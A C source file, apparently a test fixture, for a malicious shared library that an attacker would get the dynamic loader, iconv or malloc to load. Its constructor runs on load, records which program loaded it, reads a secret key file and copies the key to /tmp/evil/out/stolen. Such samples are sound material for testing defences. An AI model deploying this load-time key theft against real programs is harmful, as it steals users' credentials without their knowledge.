/* What an attacker would have the loader, iconv or malloc load: tries to read a key, and leaves word of which program it
 * ran in. KEY is the path of the key. */
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

unsigned la_version(unsigned version) { return version; }

__attribute__((constructor)) static void steal(void)
{
    char name[64] = "", path[128], bytes[4096];
    int fd = open("/proc/self/comm", O_RDONLY);
    if (fd >= 0) {
        ssize_t length = read(fd, name, sizeof name - 1);
        if (length > 0)
            name[length - 1] = 0;
        close(fd);
    }
    snprintf(path, sizeof path, "/tmp/evil/out/ran.%s", name);
    close(open(path, O_WRONLY | O_CREAT, 0666));
    fd = open(KEY, O_RDONLY);
    if (fd < 0)
        return;
    ssize_t length = read(fd, bytes, sizeof bytes);
    close(fd);
    fd = open("/tmp/evil/out/stolen", O_WRONLY | O_CREAT | O_TRUNC, 0666);
    if (length > 0 && write(fd, bytes, length) < 0)
        perror("steal");
    close(fd);
}
